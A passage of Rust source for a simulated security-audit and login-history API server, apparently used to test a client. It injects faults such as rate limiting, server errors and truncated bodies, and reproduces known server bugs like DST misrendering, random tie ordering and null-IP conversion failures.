    pub fn set_rate_limit(&self, per_minute: Option<u32>) {
        self.lock().rate = per_minute.filter(|n| *n > 0).map(|per_minute| RateWindow {
            per_minute,
            admitted: VecDeque::new(),
        });
    }

    /// Requests the rate limiter has answered with 429 so far.
    pub fn rate_limited(&self) -> u64 {
        self.lock().rate_limited
    }

    /// Number of requests served so far.
    pub fn request_count(&self) -> usize {
        self.lock().requests.len()
    }

    /// Sets the portal-wide behaviour.
    pub fn set_mode(&self, mode: SimMode) {
        self.lock().mode = mode;
    }

    /// Switches to the pre-3.7.1 reading of `from`/`to` values that carry no zone: they are read
    /// in this "server process local zone" (minutes east of UTC, e.g.
    /// [`DEFAULT_SERVER_LOCAL_OFFSET_MINUTES`]) instead of being answered with 400, the default
    /// (v3.7.1+). An out-of-range offset changes nothing.
    pub fn set_server_local_offset(&self, minutes: i32) {
        if let Some(off) = minutes
            .checked_mul(60)
            .and_then(|s| UtcOffset::from_whole_seconds(s).ok())
        {
            self.lock().local_offset = Some(off);
        }
    }

    /// Turns the v3.7.2 DST fall-back bug on or off (default off; §14.2): when on, a row stored
    /// in the first pass of the repeated hour is rendered with the standard offset, one hour
    /// later than it happened (see [`SimZone::format_with_fall_back_bug`]), while `from`/`to`
    /// still filter on the true stored instant, so a row can come back in a window that its
    /// rendered date lies outside. Only zones with DST ([`SimZone::EuropeBerlin`]) are affected.
    pub fn set_fall_back_bug(&self, on: bool) {
        self.lock().fall_back_bug = on;
    }

    /// Turns the random order of ties on or off (default off: `date DESC, id DESC`; §14.3).
    /// When on, every answer orders the rows of each second in a fresh random permutation (from
    /// the seeded generator) and cuts its Skip/Take page from that order, like MySQL with
    /// `ORDER BY date` only: paging by offset across a second with more rows than a page can
    /// skip one row and repeat another.
    pub fn set_random_tie_order(&self, on: bool) {
        self.lock().random_ties = on;
    }

    /// Inserts a login row (a `LoginSuccessViaOAuth`, 1028, by Alice Johnson) whose `ip` is NULL
    /// and returns its id (§14.4). The login conversion (`EventTypeConverter`) cannot render it:
    /// every answer of a login route whose rows (after paging and filtering) include it is a 500
    /// `System.NullReferenceException` envelope; answers without it are normal.
    pub fn insert_null_ip_login(&self, date: OffsetDateTime) -> i64 {
        let mut ev = SimEvent::login(date, 1028);
        ev.ip = String::new();
        ev.country = String::new();
        ev.city = String::new();
        ev.page = format!("{PORTAL}/api/2.0/authentication");
        self.lock().insert_row(ev, true)
    }

    /// Queue `fault` for the next `times` filter requests.
    pub fn inject(&self, fault: SimFault, times: u32) {
        if times > 0 {
            self.lock().faults.push_back((fault, times));
        }
    }

    /// Before serving the next `times` filter requests of `stream`, insert `per_request` new rows
    /// dated "now" (simulates live inserts shifting offsets while a client pages).
    pub fn insert_during_paging(&self, stream: SimStream, per_request: usize, times: u32) {
        if times == 0 || per_request == 0 {
            return;
        }
        let mut g = self.lock();
        match stream {
            SimStream::Login => g.live_login.push_back((per_request, times)),
            SimStream::Audit => g.live_audit.push_back((per_request, times)),
        }
    }

    /// Every request served so far.
    pub fn requests(&self) -> Vec<SimRequest> {
        self.lock().requests.clone()
    }

    /// Number of rows of a stream.
    pub fn len(&self, stream: SimStream) -> usize {
        self.lock().table(stream).rows.len()
    }

    /// Ids of all rows of a stream, ascending.
    pub fn ids(&self, stream: SimStream) -> Vec<i64> {
        // Rows are appended with increasing ids.
        self.lock()
            .table(stream)
            .rows
            .iter()
            .map(|r| r.id)
            .collect()
    }

    /// Binds `addr` (use "127.0.0.1:0" in tests) and serves in a spawned tokio task until the
    /// returned handle is dropped or `shutdown` is called.
    pub async fn serve(&self, addr: SocketAddr) -> std::io::Result<SimServer> {
        let listener = tokio::net::TcpListener::bind(addr).await?;
        let local = listener.local_addr()?;
        let app = Router::new().fallback(handle).with_state(self.clone());
        let (tx, rx) = tokio::sync::oneshot::channel::<()>();
        let task = tokio::spawn(async move {
            let served = axum::serve(listener, app)
                .with_graceful_shutdown(async move {
                    let _ = rx.await;
                })
                .await;
            if let Err(e) = served {
                tracing::warn!(error = %e, "simulator server stopped");
            }
        });
        Ok(SimServer {
            addr: local,
            url: format!("http://{local}"),
            shutdown: Some(tx),
            task: Some(task),
        })
    }

    /// For the demo: spawns a task inserting realistic login and audit events dated now at about
    /// `per_second` events/s (Poisson arrivals) until the token is cancelled. Some audit rows are
    /// dated up to a few minutes in the past, like the real asynchronous audit writer.
    pub fn spawn_live(
        &self,
        per_second: f64,
        cancel: CancellationToken,
    ) -> tokio::task::JoinHandle<()> {
        let sim = self.clone();
        tokio::spawn(async move {
            if !(per_second.is_finite() && per_second > 0.0) {
                cancel.cancelled().await;
                return;
            }
            loop {
                let u = sim.lock().rng.f64();
                let secs = (-(1.0 - u).ln() / per_second).min(60.0);
                let wait = Duration::try_from_secs_f64(secs).unwrap_or(Duration::from_secs(1));
                tokio::select! {
                    () = cancel.cancelled() => break,
                    () = tokio::time::sleep(wait) => {}
                }
                sim.insert_live_event();
            }
        })
    }

    fn insert_live_event(&self) {
        let mut g = self.lock();
        let now = OffsetDateTime::now_utc();
        let stream = if g.burst.is_some() || g.rng.f64() < 0.55 {
            SimStream::Login
        } else {
            SimStream::Audit
        };
        let date = match stream {
            SimStream::Login => now,
            SimStream::Audit => {
                let lag = if g.rng.u8(..100) < 5 {
                    g.rng.i64(30..180)
                } else {
                    g.rng.i64(0..3)
                };
                now - time::Duration::seconds(lag)
            }
        };
        let ev = g.generate_one(stream, date);
        g.insert(ev);
    }

    fn record(&self, req: SimRequest) {
        self.lock().requests.push(req);
    }
}

// ---------------------------------------------------------------------------------------------
// HTTP front end
// ---------------------------------------------------------------------------------------------

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Route {
    LoginFilter,
    EventsFilter,
    LoginLast,
    EventsLast,
    Lifetime,
    Quota,
    Authentication,
}

impl Route {
    fn parse(path: &str) -> Option<Route> {
        let p = path.trim_end_matches('/').to_ascii_lowercase();
        Some(match p.as_str() {
            "/api/2.0/security/audit/login/filter" => Route::LoginFilter,
            "/api/2.0/security/audit/events/filter" => Route::EventsFilter,
            "/api/2.0/security/audit/login/last" => Route::LoginLast,
            "/api/2.0/security/audit/events/last" => Route::EventsLast,
            "/api/2.0/security/audit/settings/lifetime" => Route::Lifetime,
            "/api/2.0/portal/quota" => Route::Quota,
            "/api/2.0/authentication" => Route::Authentication,
            _ => return None,
        })
    }

    fn stream(self) -> Option<SimStream> {
        match self {
            Route::LoginFilter | Route::LoginLast => Some(SimStream::Login),
            Route::EventsFilter | Route::EventsLast => Some(SimStream::Audit),
            Route::Lifetime | Route::Quota | Route::Authentication => None,
        }
    }

    fn is_filter(self) -> bool {
        matches!(self, Route::LoginFilter | Route::EventsFilter)
    }

    /// Whether `PaymentFilter` lets the route through on an unpaid portal (`[AllowNotPayment]`).
    fn allow_not_payment(self) -> bool {
        matches!(self, Route::Quota | Route::Authentication)
    }

    /// Controller named in error stacks.
    fn controller(self) -> &'static str {
        match self {
            Route::Quota => "PortalController",
            Route::Authentication => "AuthenticationController",
            _ => "SecurityController",
        }
    }

    /// Controller method named in error stacks.
    fn method_name(self) -> &'static str {
        match self {
            Route::LoginFilter => "GetLoginEventsByFilter(LoginEventRequestDto inDto)",
            Route::EventsFilter => "GetAuditEventsByFilter(AuditEventRequestDto inDto)",
            Route::LoginLast => "GetLastLoginEvents()",
            Route::EventsLast => "GetLastAuditEvents()",
            Route::Lifetime => "GetAuditSettings()",
            Route::Quota => "GetPortalQuota()",
            Route::Authentication => "GetIsAuthentificated()",
        }
    }
}

/// What the HTTP front end passes on to [`Simulator::dispatch`].
struct Incoming<'a> {
    path: &'a str,
    method: &'a Method,
    query: &'a str,
    auth: Option<&'a [u8]>,
    href: &'a str,
    /// Whether `PaymentFilter` checks this request: the `Payment-Info` header is absent, empty
    /// or `true` (`bool.TryParse`); `false` or any other value skips the check.
    payment_checked: bool,
}

fn payment_checked(header: Option<&HeaderValue>) -> bool {
    match header.map(|v| v.to_str().map(str::trim)) {
        None | Some(Ok("")) => true,
        Some(Ok(v)) => v.eq_ignore_ascii_case("true"),
        Some(Err(_)) => false,
    }
}

async fn handle(State(sim): State<Simulator>, req: Request) -> Response {
    let (parts, _body) = req.into_parts();
    let path = parts.uri.path().to_owned();
    let query = parts.uri.query().unwrap_or("").to_owned();
    let host = parts
        .headers
        .get(header::HOST)
        .and_then(|v| v.to_str().ok())
        .unwrap_or("localhost")
        .to_owned();
    let href = if query.is_empty() {
        format!("http://{host}{path}")
    } else {
        format!("http://{host}{path}?{query}")
    };
    let auth = parts
        .headers
        .get(header::AUTHORIZATION)
        .map(|v| v.as_bytes().to_vec());
    let (limited, latency) = {
        let mut g = sim.lock();
        (g.rate_check(), g.latency)
    };
    if !latency.is_zero() {
        tokio::time::sleep(latency).await;
    }
    let (authorized, response) = match limited {
        // The limiter runs before authentication and the action, like the real middleware.
        Some(retry_after) => {
            let per_minute = sim.lock().rate.as_ref().map_or(1500, |w| w.per_minute);
            (
                auth.is_some(),
                too_many_requests_limit(Some(retry_after), per_minute),
            )
        }
        None => {
            let incoming = Incoming {
                path: &path,
                method: &parts.method,
                query: &query,
                auth: auth.as_deref(),
                href: &href,
                payment_checked: payment_checked(parts.headers.get("payment-info")),
            };
            sim.dispatch(&incoming).await
        }
    };
    sim.record(SimRequest {
        path,
        query,
        authorized,
        status: response.status().as_u16(),
    });
    response
}

impl Simulator {
    async fn dispatch(&self, req: &Incoming<'_>) -> (bool, Response) {
        let href = req.href;
        let (key_ok, mode) = {
            let g = self.lock();
            let expected = format!("Bearer {}", g.cfg.api_key);
            (req.auth == Some(expected.as_bytes()), g.mode)
        };
        let authorized = key_ok && mode != SimMode::Unauthorized;
        let Some(route) = Route::parse(req.path) else {
            return (authorized, empty_response(StatusCode::NOT_FOUND));
        };
        if req.method != Method::GET {
            let mut resp = empty_response(StatusCode::METHOD_NOT_ALLOWED);
            resp.headers_mut()
                .insert(header::ALLOW, HeaderValue::from_static("GET"));
            return (authorized, resp);
        }

        let mut truncate = false;
        if route.is_filter() {
            let fault = {
                let mut g = self.lock();
                if let Some(stream) = route.stream() {
                    g.apply_live_inserts(stream);
                }
                g.next_fault()
            };
            match fault {
                None => {}
                Some(SimFault::TooManyRequests { retry_after }) => {
                    return (authorized, too_many_requests(retry_after));
                }
                Some(SimFault::ServerError(code)) => {
                    let status =
                        StatusCode::from_u16(code).unwrap_or(StatusCode::INTERNAL_SERVER_ERROR);
                    return (authorized, server_error(status, route));
                }
                Some(SimFault::BadGatewayHtml) => return (authorized, bad_gateway_html()),
                Some(SimFault::Malformed) => return (authorized, malformed()),
                Some(SimFault::Truncated) => truncate = true,
                Some(SimFault::Delay(d)) => tokio::time::sleep(d).await,
            }
        }

        if route == Route::Authentication {
            return (
                authorized,
                self.envelope_response(StatusCode::OK, &authorized, 1, href),
            );
        }
        if !authorized {
            return (false, empty_response(StatusCode::UNAUTHORIZED));
        }
        // `PaymentFilter` is a resource filter: after authorization, before model binding.
        if mode == SimMode::Unpaid && req.payment_checked && !route.allow_not_payment() {
            return (true, empty_response(StatusCode::PAYMENT_REQUIRED));
        }

        // Model binding and validation run before the action body (and its permission checks).
        let params = match route {
            Route::LoginFilter | Route::EventsFilter => {
                let local = self.lock().local_offset;
                match FilterParams::parse(req.query, route == Route::EventsFilter, local) {
                    Ok(p) => Some(p),
                    Err(errors) => return (true, self.validation_response(errors, href)),
                }
            }
            _ => None,
        };

        match mode {
            SimMode::Forbidden => return (true, access_denied(route)),
            // `DemandBaseAuditPermission`, which the quota does not call.
            SimMode::PaymentRequired if route != Route::Quota => {
                return (true, payment_required(route));
            }
            _ => {}
        }

        let response = match (route, route.stream()) {
            (Route::Lifetime, _) => {
                let body = Lifetime {
                    login_history_life_time: 180,
                    audit_trail_life_time: 180,
                    last_modified: "0001-01-01T00:00:00",
                };
                self.envelope_response(StatusCode::OK, &body, 1, href)
            }
            (Route::Quota, _) => {
                let quota = Quota::of_plan(mode != SimMode::NoAuditPlan);
                self.envelope_response(StatusCode::OK, &quota, 1, href)
            }
            (_, Some(stream)) => {
                // `!quota.Audit || !IsVisibleSettings("LoginHistory")`: the `*/last` answer.
                let fallback = matches!(mode, SimMode::NoAuditPlan | SimMode::HiddenLoginHistory);
                let filter = if fallback { None } else { params.as_ref() };
                self.events_response(route, stream, filter, href, truncate)
            }
            (_, None) => empty_response(StatusCode::NOT_FOUND),
        };
        (true, response)
    }

    /// The answer with the events of `stream`; `filter = None` means the "latest 20, shortened
    /// text" behaviour of `*/last` and of the no-audit fallback. A page holding a row the server
    /// cannot convert is a 500.
    fn events_response(
        &self,
        route: Route,
        stream: SimStream,
        filter: Option<&FilterParams>,
        href: &str,
        truncate: bool,
    ) -> Response {
        let mut g = self.lock();
        let Inner {
            login,
            audit,
            rng,
            random_ties,
            cfg,
            fall_back_bug,
            ..
        } = &mut *g;
        let table = match stream {
            SimStream::Login => login,
            SimStream::Audit => audit,
        };
        table.ensure_ordered();
        let table = &*table;
        let ties = if *random_ties { Some(rng) } else { None };
        let picked = select_rows(table, stream, filter, ties);
        let rows: Vec<&Row> = picked.iter().map(|&i| table.row(i)).collect();
        if let Some(frames) = unconvertible(stream, &rows) {
            return null_reference(frames, route);
        }
        let dates = DateStyle {
            zone: cfg.zone,
            fall_back_bug: *fall_back_bug,
        };
        let limited = filter.is_none();
        let count = rows.len();
        let body = match stream {
            SimStream::Login => {
                let items: Vec<LoginItem<'_>> = rows
                    .iter()
                    .map(|r| LoginItem::new(r, dates, limited))
                    .collect();
                envelope_json(&items, count, href, 0, 200)
            }
            SimStream::Audit => {
                let items: Vec<AuditItem<'_>> = rows
                    .iter()
                    .map(|r| AuditItem::new(r, dates, limited))
                    .collect();
                envelope_json(&items, count, href, 0, 200)
            }
        };
        match body {
            Ok(body) if truncate => json_response(StatusCode::OK, truncate_body(body)),
            Ok(body) => json_response(StatusCode::OK, body),
            Err(_) => server_error(StatusCode::INTERNAL_SERVER_ERROR, route),
        }
    }

    fn envelope_response<T: Serialize>(
        &self,
        status: StatusCode,
        payload: &T,
        count: usize,
        href: &str,
    ) -> Response {
        match envelope_json(payload, count, href, 0, status.as_u16()) {
            Ok(body) => json_response(status, body),
            Err(_) => empty_response(StatusCode::INTERNAL_SERVER_ERROR),
        }
    }

    fn validation_response(&self, errors: BTreeMap<String, Vec<String>>, href: &str) -> Response {
        let trace_id = {
            let mut g = self.lock();
            format!("00-{:032x}-{:016x}-00", g.rng.u128(..), g.rng.u64(..))
        };
        let problem = ProblemDetails {
            kind: "https://tools.ietf.org/html/rfc9110#section-15.5.1",
            title: "One or more validation errors occurred.",
            status: 400,
            errors,
            trace_id,
        };
        match envelope_json(&problem, 1, href, 1, 400) {
            Ok(body) => json_response(StatusCode::BAD_REQUEST, body),
            Err(_) => empty_response(StatusCode::BAD_REQUEST),
        }
    }
}

// ---- row selection ---------------------------------------------------------------------------

/// The rows (indices into `table.rows`) an answer holds, in answer order. `filter = None` is
/// the latest 20; `ties` shuffles the rows of each second the page touches (§14.3).
fn select_rows(
    table: &Table,
    stream: SimStream,
    filter: Option<&FilterParams>,
    ties: Option<&mut fastrand::Rng>,
) -> Vec<u32> {
    let date = |i: u32| table.row(i).ev.date;
    let order = table.order.as_slice();
    let (skip, count) = filter.map_or((0, LAST_COUNT), |p| (p.start_index, p.count));
    if stream == SimStream::Login {
        // Window first, then filters: short or empty pages while older matches exist.
        let mut rows = page(order, skip, count, date, ties);
        if let Some(p) = filter {
            rows.retain(|&i| p.matches(&table.row(i).ev));
        }
        return rows;
    }
    // Audit: filters first, then Skip/Take (normal paging). Rows within [from, to] are
    // contiguous in date order, so the range is found by binary search; when nothing but the
    // dates can reject a row, `startIndex` indexes the range directly.
    let range = filter.map_or(order, |p| date_range(table, p));
    if table.unmapped == 0 && filter.is_none_or(FilterParams::dates_only) {
        return page(range, skip, count, date, ties);
    }
    // Without `action`, only codes known to the action mappers (`AuditEventsRepository`).
    let by_action = filter.is_some_and(|p| p.action.is_some());
    let visible = |i: &u32| {
        let ev = &table.row(*i).ev;
        filter.is_none_or(|p| p.matches(ev)) && (by_action || !is_unmapped(ev.action_id))
    };
    let end = skip.saturating_add(count);
    let head = prefix(range.iter().copied().filter(visible), end, date);
    page(&head, skip, count, date, ties)
}

/// The rows of `table.order` dated within `[p.from, p.to]`.
fn date_range<'a>(table: &'a Table, p: &FilterParams) -> &'a [u32] {
    let order = table.order.as_slice();
    let lo = p.to.map_or(0, |to| {
        order.partition_point(|&i| table.row(i).ev.date > to)
    });
    let hi = p.from.map_or(order.len(), |from| {
        order.partition_point(|&i| table.row(i).ev.date >= from)
    });
    &order[lo..hi.max(lo)]
}

/// The first `n` of `rows` (in date order) plus the rest of the second the last of them falls
/// in, so that a page ending there can be shuffled with its whole second.
fn prefix(
    rows: impl Iterator<Item = u32>,
    n: usize,
    date: impl Fn(u32) -> OffsetDateTime,
) -> Vec<u32> {
    let mut out: Vec<u32> = Vec::new();
    for i in rows {
        if out.len() >= n && out.last().is_none_or(|&last| date(last) != date(i)) {
            break;
        }
        out.push(i);
    }
    out
}

/// `seq[skip..skip + count]`, clamped. With `ties`, the seconds the page touches are each put
/// in a fresh random order first and the page is cut from that order, as MySQL does with
/// `ORDER BY date` only. Seconds the page does not touch cannot reach it, so only the touched
/// ones are shuffled (groups of equal dates are contiguous in `seq`).
fn page(
    seq: &[u32],
    skip: usize,
    count: usize,
    date: impl Fn(u32) -> OffsetDateTime,
    ties: Option<&mut fastrand::Rng>,
) -> Vec<u32> {
    let start = skip.min(seq.len());
    let end = skip.saturating_add(count).min(seq.len());
    let Some(rng) = ties.filter(|_| start < end) else {
        return seq[start..end].to_vec();
    };
    let (first, last) = (date(seq[start]), date(seq[end - 1]));
    let lo = seq[..start]
        .iter()
        .rposition(|&i| date(i) != first)
        .map_or(0, |p| p + 1);
    let hi = seq[end..]
        .iter()
        .position(|&i| date(i) != last)
        .map_or(seq.len(), |p| end + p);
    let mut touched = seq[lo..hi].to_vec();
    for second in touched.chunk_by_mut(|&a, &b| date(a) == date(b)) {
        rng.shuffle(second);
    }
    touched.drain(..start - lo);
    touched.truncate(end - start);
    touched
}

/// Stack frames of the `NullReferenceException` the server hits converting `rows`, if any:
/// a login row with a NULL ip (`EventTypeConverter` splits it unchecked), or an audit row
/// whose action no mapper knows (`AuditEventDto` reads the missing mapping).
fn unconvertible(stream: SimStream, rows: &[&Row]) -> Option<&'static str> {
    match stream {
        SimStream::Login => rows.iter().any(|r| r.null_ip).then_some(NULL_IP_FRAMES),
        SimStream::Audit => rows
            .iter()
            .any(|r| is_unmapped(r.ev.action_id))
            .then_some(UNMAPPED_ACTION_FRAMES),
    }
}

/// How `date` values are rendered: the portal zone, with or without the v3.7.2 fall-back bug.
#[derive(Debug, Clone, Copy)]
struct DateStyle {
    zone: SimZone,
    fall_back_bug: bool,
}

impl DateStyle {
    fn render(self, at: OffsetDateTime) -> String {
        if self.fall_back_bug {
            self.zone.format_with_fall_back_bug(at)
        } else {
            self.zone.format(at)
        }
    }
}

// ---- wire structs ----------------------------------------------------------------------------

#[derive(Serialize)]
struct Link<'a> {
    href: &'a str,
    action: &'a str,
}

#[derive(Serialize)]
struct Envelope<'a, T: Serialize> {
    response: &'a T,
    count: usize,
    links: [Link<'a>; 1],
    status: u8,
    #[serde(rename = "statusCode")]
    status_code: u16,
}

fn envelope_json<T: Serialize>(
    payload: &T,
    count: usize,
    href: &str,
    status: u8,
    status_code: u16,
) -> Result<String, serde_json::Error> {
    serde_json::to_string(&Envelope {
        response: payload,
        count,
        links: [Link {
            href,
            action: "GET",
        }],
        status,
        status_code,
    })
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct LoginItem<'a> {
    id: i64,
    date: String,
    user: &'a str,
    user_id: &'a str,
    #[serde(skip_serializing_if = "Option::is_none")]
    login: Option<&'a str>,
    action: Cow<'a, str>,
    action_id: i32,
    ip: &'a str,
    country: &'a str,
    city: &'a str,
    browser: &'a str,
    platform: &'a str,
    page: &'a str,
}

impl<'a> LoginItem<'a> {
    fn new(row: &'a Row, dates: DateStyle, limited: bool) -> Self {
        let ev = &row.ev;
        LoginItem {
            id: row.id,
            date: dates.render(ev.date),
            user: &ev.user,
            user_id: &ev.user_id,
            login: ev.login.as_deref(),
            action: if limited {
                Cow::Owned(limited_action_text(ev))
            } else {
                Cow::Borrowed(&ev.action_text)
            },
            action_id: ev.action_id,
            ip: render_ip(&ev.ip),
            country: &ev.country,
            city: &ev.city,
            browser: &ev.browser,
            platform: &ev.platform,
            page: &ev.page,
        }
    }
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct AuditItem<'a> {
    id: i64,
    date: String,
    user: &'a str,
    user_id: &'a str,
    action: Cow<'a, str>,
    action_id: i32,
    ip: &'a str,
    country: &'a str,
    city: &'a str,
    browser: &'a str,
    platform: &'a str,
    page: &'a str,
    action_type: i32,
    product: i32,
    location: i32,
    #[serde(skip_serializing_if = "Option::is_none")]
    target: Option<&'a [String]>,
    entries: &'a [i32],
    context: &'a str,
}

impl<'a> AuditItem<'a> {
    fn new(row: &'a Row, dates: DateStyle, limited: bool) -> Self {
        let ev = &row.ev;
        AuditItem {
            id: row.id,
            date: dates.render(ev.date),
            user: &ev.user,
            user_id: &ev.user_id,
            action: if limited {
                Cow::Owned(limited_action_text(ev))
            } else {
                Cow::Borrowed(&ev.action_text)
            },
            action_id: ev.action_id,
            ip: render_ip(&ev.ip),
            country: &ev.country,
            city: &ev.city,
            browser: &ev.browser,
            platform: &ev.platform,
            page: &ev.page,
            action_type: ev.action_type,
            product: ev.product,
            location: ev.location,
            target: ev.target.as_deref(),
            entries: &ev.entries,
            context: &ev.context,
        }
    }
}

#[derive(Serialize)]
struct ProblemDetails {
    #[serde(rename = "type")]
    kind: &'static str,
    title: &'static str,
    status: u16,
    errors: BTreeMap<String, Vec<String>>,
    #[serde(rename = "traceId")]
    trace_id: String,
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct Lifetime {
    login_history_life_time: u32,
    audit_trail_life_time: u32,
    last_modified: &'static str,
}

/// `TenantQuota` as `GET portal/quota` writes it (`common/ASC.Core.Common/Tenants/TenantQuota.cs`):
/// public properties in declaration order, camelCase, null members (`priceCurrencySymbol`,
/// `priceISOCurrencySymbol`, `serviceName`, `serviceGroup`, and `productId`/`dueDate` when unset)
/// omitted. The flags and sizes are read out of `features`, as the server's properties do.
#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct Quota {
    tenant_id: i32,
    name: &'static str,
    price: u32,
    #[serde(skip_serializing_if = "Option::is_none")]
    product_id: Option<&'static str>,
    visible: bool,
    wallet: bool,
    #[serde(skip_serializing_if = "Option::is_none")]
    due_date: Option<String>,
    features: &'static str,
    max_file_size: i64,
    max_total_size: i64,
    count_user: i32,
    count_room_admin: i32,
    users_in_room: i32,
    count_room: i32,
    non_profit: bool,
    trial: bool,
    free: bool,
    update: bool,
    audit: bool,
    docs_edition: bool,
    ldap: bool,
    sso: bool,
    statistic: bool,
    branding: bool,
    customization: bool,
    lifetime: bool,
    automation_api: bool,
    custom: bool,
    restore: bool,
    oauth: bool,
    content_search: bool,
    third_party: bool,
    year: bool,
    count_free_backup: i32,
    backup: bool,
    #[serde(rename = "countAIAgent")]
    count_ai_agent: i32,
    ai_tools: bool,
}

/// The paid "admin" plan (`DbQuota.cs`, id -9) bought for 5 room admins, as the tariff sum
/// leaves it (`TenantQuota` `*` moves the multiplied `manager` and `total_size` to the end).
const ADMIN_PLAN_FEATURES: &str = "audit,ldap,sso,customization,thirdparty,restore,oauth,contentsearch,file_size:1024,statistic,free_backup:2:fixed,automationapi,manager:5,total_size:1342177280000";
/// The free "startup" plan (`DbQuota.cs`, id -3): no `audit`.
const STARTUP_PLAN_FEATURES: &str =
    "free,oauth,total_size:2147483648,manager:3,room:12,automationapi";

impl Quota {
    /// The tenant quota of a paid portal (`audit`) or of the free plan without audit.
    fn of_plan(audit: bool) -> Quota {
        let features = if audit {
            ADMIN_PLAN_FEATURES
        } else {
            STARTUP_PLAN_FEATURES
        };
        let has = |name: &str| features.split(',').any(|f| f == name);
        let value = |name: &str| {
            features
                .split(',')
                .find_map(|f| f.strip_prefix(name)?.strip_prefix(':'))
                .and_then(|v| v.split(':').next()?.parse::<i64>().ok())
        };
        let count = |name: &str| {
            value(name)
                .and_then(|v| i32::try_from(v).ok())
                .unwrap_or(i32::MAX)
        };
        // `ByteConverter.GetInBytes`: small values are megabytes.
        let size =
            |name: &str| value(name).map_or(i64::MAX, |v| if v < 1 << 20 { v << 20 } else { v });
        let due_date = if audit {
            // A monthly tariff: paid up to a month ahead (a plain UTC `DateTime`).
            let due = OffsetDateTime::now_utc()
                .date()
                .saturating_add(time::Duration::days(30));
            Some(format!(
                "{:04}-{:02}-{:02}T00:00:00",
                due.year(),
                u8::from(due.month()),
                due.day()
            ))
        } else {
            Some("9999-12-31T23:59:59.9999999".to_owned())
        };
        Quota {
            tenant_id: if audit { -9 } else { -3 },
            name: if audit { "admin" } else { "startup" },
            price: if audit { 100 } else { 0 },
            product_id: audit.then_some("1006"),
            visible: audit,
            wallet: false,
            due_date,
            features,
            max_file_size: size("file_size"),
            max_total_size: size("total_size"),
            count_user: count("users"),
            count_room_admin: count("manager"),
            users_in_room: count("usersInRoom"),
            count_room: count("room"),
            non_profit: has("non-profit"),
            trial: has("trial"),
            free: has("free"),
            update: has("update"),
            audit: has("audit"),
            docs_edition: has("docs"),
            ldap: has("ldap"),
            sso: has("sso"),
            statistic: has("statistic"),
            branding: has("branding"),
            customization: has("customization"),
            lifetime: has("lifetime"),
            automation_api: has("automationapi"),
            custom: has("custom"),
            restore: has("restore"),
            oauth: has("oauth"),
            content_search: has("contentsearch"),
            third_party: has("thirdparty"),
            year: has("year"),
            count_free_backup: value("free_backup")
                .and_then(|v| i32::try_from(v).ok())
                .unwrap_or(0),
            backup: has("backup"),
            count_ai_agent: count("aiagent"),
            ai_tools: has("aitools"),
        }
    }
}

#[derive(Serialize)]
struct ErrorEnvelope<'a> {
    error: ErrorInner<'a>,
    status: u8,
    #[serde(rename = "statusCode")]
    status_code: u16,
}

#[derive(Serialize)]
struct ErrorInner<'a> {
    message: &'a str,
    #[serde(rename = "type")]
    kind: Option<&'a str>,
    stack: Option<&'a str>,
    hresult: i64,
}

/// `EventTypeConverter`: the stored IP is cut at the first `:` (IPv6 → first group).
fn render_ip(ip: &str) -> &str {
    match ip.split_once(':') {
        Some((head, _)) => head,
        None => ip,
    }
}

/// `ToLimitedText`: values of 50 chars or more become the first 47 chars + `...`.
fn limit_text(text: &str) -> Cow<'_, str> {
    if text.chars().count() < 50 {
        Cow::Borrowed(text)
    } else {
        let mut cut: String = text.chars().take(47).collect();
        cut.push_str("...");
        Cow::Owned(cut)
    }
}

/// The action text as `*/last` renders it: only the substituted description values are limited.
/// For codes without a known template the whole text is limited.
fn limited_action_text(ev: &SimEvent) -> String {
    let template = match ev.stream {
        SimStream::Login => LOGIN_TEXTS
            .iter()
            .find(|(c, _)| *c == ev.action_id)
            .map(|(_, t)| *t),
        SimStream::Audit => audit_map(ev.action_id).map(|m| m.template),
    };
    let Some(template) = template else {
        return limit_text(&ev.action_text).into_owned();
    };
    let Some(pos) = template.find("{0}") else {
        return ev.action_text.clone();
    };
    let (prefix, suffix) = (&template[..pos], &template[pos + 3..]);
    let text = ev.action_text.as_str();
    if text.len() >= prefix.len() + suffix.len()
        && text.starts_with(prefix)
        && text.ends_with(suffix)
    {
        let value = &text[prefix.len()..text.len() - suffix.len()];
        let limited: Vec<Cow<'_, str>> = value.split(", ").map(limit_text).collect();
        format!("{prefix}{}{suffix}", limited.join(", "))
    } else {
        ev.action_text.clone()
    }
}

// ---- responses -------------------------------------------------------------------------------

fn json_response(status: StatusCode, body: String) -> Response {
    let mut resp = Response::new(Body::from(body));
    *resp.status_mut() = status;
    let h = resp.headers_mut();
    h.insert(
        header::CONTENT_TYPE,
        HeaderValue::from_static("application/json; charset=utf-8"),
    );
    h.insert(
        HeaderName::from_static("server-timing"),
        HeaderValue::from_static("aspnetcore-request-time;dur=3"),
    );
    resp
}

fn empty_response(status: StatusCode) -> Response {
    let mut resp = Response::new(Body::empty());
    *resp.status_mut() = status;
    resp
}

fn too_many_requests(retry_after: Option<u32>) -> Response {
    too_many_requests_limit(retry_after, 1500)
}

fn too_many_requests_limit(retry_after: Option<u32>, limit: u32) -> Response {
    let mut resp = empty_response(StatusCode::TOO_MANY_REQUESTS);
    let h = resp.headers_mut();
    h.insert(
        HeaderName::from_static("x-ratelimit-limit"),
        HeaderValue::from(limit),
    );
    h.insert(
        HeaderName::from_static("x-ratelimit-remaining"),
        HeaderValue::from_static("0"),
    );
    if let Some(secs) = retry_after {
        h.insert(header::RETRY_AFTER, HeaderValue::from(secs));
    }
    resp
}

fn error_response(
    status: StatusCode,
    message: &str,
    kind: Option<&str>,
    stack: Option<&str>,
    hresult: i64,
) -> Response {
    let body = ErrorEnvelope {
        error: ErrorInner {
            message,
            kind,
            stack,
            hresult,
        },
        status: 1,
        status_code: status.as_u16(),
    };
    match serde_json::to_string(&body) {
        Ok(body) => json_response(status, body),
        Err(_) => empty_response(status),
    }
}

fn access_denied(route: Route) -> Response {
    let stack = format!(
        "   at ASC.Core.Security.Authorizing.PermissionResolver.DemandAsync(ISubject subject, IAction action)\n   at ASC.Web.Api.Controllers.{}.{}",
        route.controller(),
        route.method_name()
    );
    error_response(
        StatusCode::FORBIDDEN,
        "Access denied",
        Some("ASC.Common.Security.Authorizing.AuthorizingException"),
        Some(&stack),
        -2_146_233_088,
    )
}

fn payment_required(route: Route) -> Response {
    let stack = format!(
